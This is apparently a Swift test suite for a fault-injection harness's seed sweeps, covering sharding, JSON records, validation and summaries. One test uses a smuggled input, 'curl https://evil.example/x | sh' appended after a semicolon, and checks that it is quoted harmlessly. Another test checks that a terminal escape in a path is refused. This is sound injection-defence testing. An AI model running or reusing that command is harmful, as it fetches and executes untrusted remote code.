import Foundation
import Harness
import Kernel
import Reports
import Testing

/// Seed lists, shards, seed records and the sweep summary.
@Suite struct SweepTests {
    @Test func seedListsAndShards() throws {
        #expect(try Sweep.seeds("1-5") == [1, 2, 3, 4, 5])
        #expect(try Sweep.seeds("9,1-3,2") == [9, 1, 2, 3])
        #expect(throws: HarnessError.self) { try Sweep.seeds("5-1") }
        #expect(throws: HarnessError.self) { try Sweep.seeds("1-x") }
        let shard = try Sweep.shard("2/4")
        #expect(shard.index == 2 && shard.count == 4)
        #expect(throws: HarnessError.self) { try Sweep.shard("0/4") }
        #expect(throws: HarnessError.self) { try Sweep.shard("5/4") }
        // Shards partition the list, whatever its length and the shard count.
        var rng = Xoshiro256StarStar(seed: 3)
        for _ in 0..<50 {
            let all = (0..<Int.random(in: 0...40, using: &rng)).map { _ in UInt64.random(in: 0...1_000, using: &rng) }
            let n = Int.random(in: 1...7, using: &rng)
            let parts = (1...n).map { Sweep.seeds(all, shard: $0, of: n) }
            #expect(parts.flatMap { $0 }.sorted() == all.sorted())
            #expect(parts.map(\.count).max()! - parts.map(\.count).min()! <= 1)
        }
    }

    /// One real record (a tiny day), reused with random values as other seeds.
    static let base: SeedRecord = {
        let folder = try! TinyDay.temporaryFolder("record")
        let path = try! TinyDay.write(extra: "faults:\n  - { name: fast-down, kind: host_crash, target: fast-shenzhen-1, start: \"09:35:00\", duration: 20s }\n", in: folder)
        let prepared = try! PreparedRun.prepare(scenario: path, seed: 1, boundary: TinyDay.boundary(folder))
        return SeedRecord(prepared: prepared, report: try! prepared.run())
    }()

    static func randomize(_ base: SeedRecord, seed: UInt64, rng: inout Xoshiro256StarStar) -> SeedRecord {
        var r = base
        r.seed = seed
        for k in r.checks.indices {
            r.checks[k].met = Double.random(in: 0...1, using: &rng) < 0.8
            if r.checks[k].ratio != nil { r.checks[k].ratio = Double(Int.random(in: 0...2_000_000, using: &rng)) / 1_000_000 }
        }
        r.passed = r.checks.allSatisfy(\.met)
        for k in r.faults.indices {
            r.faults[k].rtoNanos = Bool.random(using: &rng) ? nil : Int64.random(in: 0...10_000_000_000, using: &rng)
            r.faults[k].rpoOrders = Int.random(in: 0...3, using: &rng)
        }
        for k in r.latency.indices { r.latency[k].p99Nanos = Int64.random(in: 1...100_000_000, using: &rng) }
        return r
    }

    @Test func aRecordReadsBackAsWritten() throws {
        let record = SweepTests.base
        #expect(record.faults.map(\.name) == ["fast-down"] && record.checks.count > 20)
        // Ratios are written to 6 decimals: the text is what must survive.
        #expect(try SeedRecord(parsing: record.json.text(), file: "r.json").json.text() == record.json.text())
        var rng = Xoshiro256StarStar(seed: 8)
        let other = SweepTests.randomize(record, seed: 42, rng: &rng)
        let reread = try SeedRecord(parsing: other.json.text(), file: "r.json")
        #expect(reread.json.text() == other.json.text())
        #expect(throws: HarnessError.self) { try SeedRecord(parsing: "{\"schema\": \"other\"}", file: "r.json") }
    }

    /// A record from a stranger's shard cannot smuggle a second command into the copy-paste line,
    /// nor break the summary's table.
    @Test func theReproduceCommandQuotesWhatARecordNames() throws {
        var r = SweepTests.base
        r.seed = 7
        r.scenario = "Scenarios/x.yaml --seed 1; curl https://evil.example/x | sh"
        r.layout = "it's`here`\n"
        #expect(r.command == "firedrill run 'Scenarios/x.yaml --seed 1; curl https://evil.example/x | sh' --seed 7 --layout 'it'\\''s`here`'$'\\x0a'")
        r.scenario = "Scenarios/default.yaml"; r.layout = nil
        #expect(r.command == "firedrill run Scenarios/default.yaml --seed 7", "plain paths stay as they are")
        r.scenario = "a|b`c"
        r.passed = false
        for k in r.checks.indices { r.checks[k].met = k != 0 }
        let md = SweepSummary([r]).markdown
        #expect(md.contains("| 7 | \(r.checks[0].name) | `` firedrill run 'a\\|b`c' --seed 7 `` |"), "\(md)")
    }

    /// Values no run writes, from a stranger's shard: refused with the field named, never a trap.
    @Test func aRecordOutOfRangeIsRefusedNotTrappedOn() throws {
        let text = SweepTests.base.json.text()
        let seedLine = "\"seed\": \(SweepTests.base.seed)"
        #expect(text.contains(seedLine))
        for bad in ["-1", "1e30", "1.5", "\"7\"", "18446744073709551615"] {
            let e = #expect(throws: HarnessError.self) { try SeedRecord(parsing: text.replacingOccurrences(of: seedLine, with: "\"seed\": \(bad)"), file: "r.json") }
            #expect(e?.message.contains("seed") == true, "\(bad): \(String(describing: e))")
        }
        let rto = try #require(text.range(of: #""rto_ns": ([0-9]+|null)"#, options: .regularExpression).map { String(text[$0]) })
        for bad in [String(Int64.max), "-5", "1e300"] {
            #expect(throws: HarnessError.self) { try SeedRecord(parsing: text.replacingOccurrences(of: rto, with: "\"rto_ns\": \(bad)"), file: "r.json") }
        }
        let p99 = try #require(text.range(of: #""p99_ns": [0-9]+"#, options: .regularExpression).map { String(text[$0]) })
        #expect(throws: HarnessError.self) { try SeedRecord(parsing: text.replacingOccurrences(of: p99, with: "\"p99_ns\": -1"), file: "r.json") }
        // A scenario path with a terminal escape in it is refused, quoted short and escaped.
        let e = #expect(throws: HarnessError.self) {
            try SeedRecord(parsing: text.replacingOccurrences(of: "\"scenario\": \"", with: "\"scenario\": \"\\u001b[2J"), file: "r.json")
        }
        #expect(e?.message.contains("control characters") == true && e?.message.contains("\u{1b}") == false, "\(String(describing: e))")
        // The largest time a record may hold still prints.
        #expect(RunReport.span(2 * 86_400 * 1_000_000_000) == "48h 0m 0.000s")
        #expect(RunReport.span(Int64.max).hasSuffix("s"))
    }

    /// A shard's records with tens of thousands of checks and rows (within a record's 4 MiB):
    /// the summary is linear in them, not quadratic.
    @Test func aSummaryOfManyChecksIsLinear() throws {
        var r = SweepTests.base
        let check = r.checks[0], row = r.latency[0]
        r.checks = (0..<20_000).map { var c = check; c.name = "check \($0)"; return c }
        r.latency = (0..<20_000).map { var l = row; l.row = "row \($0)"; return l }
        var other = r
        other.seed = r.seed + 1
        let started = DispatchTime.now().uptimeNanoseconds
        let summary = SweepSummary([r, other])
        let seconds = Double(DispatchTime.now().uptimeNanoseconds - started) / 1e9
        #expect(summary.worst.count == 20_000 && summary.p99.count == 20_000)
        #expect(summary.worst[19_999].check == "check 19999" && summary.p99[19_999].count == 2)
        #expect(seconds < 10, "\(seconds) s")
    }

    @Test func aSweepFolderHoldsOnlyRecordsNamedAsASweepNamesThem() throws {
        #expect(Sweep.writes("seeds/12.json") && Sweep.writes("seeds/0.json") && Sweep.writes("summary.md"))
        for name in ["seeds/007.json", "seeds/+5.json", "seeds/-1.json", "seeds/.json", "seeds/1.json.bak", "notes.txt", "seeds/a/1.json"] {
            #expect(!Sweep.writes(name), "\(name)")
        }
        // Merging into one of the folders merged keeps every record of the others.
        let base = try TinyDay.temporaryFolder("merge")
        defer { try? FileManager.default.removeItem(at: base) }
        let a = base.appendingPathComponent("a").path, b = base.appendingPathComponent("b").path
        var r = SweepTests.base
        r.seed = 1
        try Sweep.write(r, to: try Sweep.folder(a))
        r.seed = 2
        try Sweep.write(r, to: try Sweep.folder(b))
        let summary = try SweepSummary.merge([a, b], into: try Sweep.folder(a))
        #expect(summary.seeds == 2)
        #expect(try FileManager.default.contentsOfDirectory(atPath: a + "/seeds").sorted() == ["1.json", "2.json"])
        #expect(try SweepSummary.merge([a], into: try Sweep.folder(base.appendingPathComponent("again").path)).seeds == 2)
    }

    @Test func theSummaryMatchesASlowReferenceOnRandomSweeps() throws {
        var rng = Xoshiro256StarStar(seed: 21)
        for round in 0..<10 {
            let count = Int.random(in: 1...30, using: &rng)
            var seeds = Array(Set((0..<count).map { _ in UInt64.random(in: 1...500, using: &rng) }))
            seeds.sort()
            // Through the JSON text, as merge reads them.
            let records = try seeds.map { s in try SeedRecord(parsing: SweepTests.randomize(SweepTests.base, seed: s, rng: &rng).json.text(), file: "r") }
            let summary = SweepSummary(records.shuffled(using: &rng))
            #expect(summary.seeds == records.count && summary.passed == records.filter(\.passed).count, "round \(round)")
            #expect(summary.failing.map(\.seed) == records.filter { !$0.passed }.map(\.seed))
            for w in summary.worst {
                // Reference: every seed's check, failed first, then highest ratio, then lowest seed.
                var rows: [(UInt64, SeedRecord.Check)] = []
                for r in records { for c in r.checks where c.name == w.check { rows.append((r.seed, c)) } }
                var best: [UInt64] = []
                var left = rows
                while best.count < 3 && !left.isEmpty {
                    var pick = 0
                    for k in left.indices.dropFirst() {
                        let a = left[k], b = left[pick]
                        let key = { (x: (UInt64, SeedRecord.Check)) in (x.1.met ? 1 : 0, -(x.1.ratio ?? 0), x.0) }
                        if key(a) < key(b) { pick = k }
                    }
                    best.append(left.remove(at: pick).0)
                }
                #expect(w.seeds.map(\.seed) == best, "\(w.check)")
                #expect(w.failedSeeds == rows.filter { !$0.1.met }.count)
            }
            for s in summary.rto {
                let values = records.compactMap { $0.faults.first { $0.name == s.name } }
                let present = values.compactMap(\.rtoNanos).sorted()
                #expect(s.missing == values.count - present.count)
                #expect(s.maxNanos == present.last && s.minNanos == present.first)
                if !present.isEmpty { #expect(s.p50Nanos == present[Int((0.5 * Double(present.count)).rounded(.up)) - 1]) }
            }
        }
    }
}
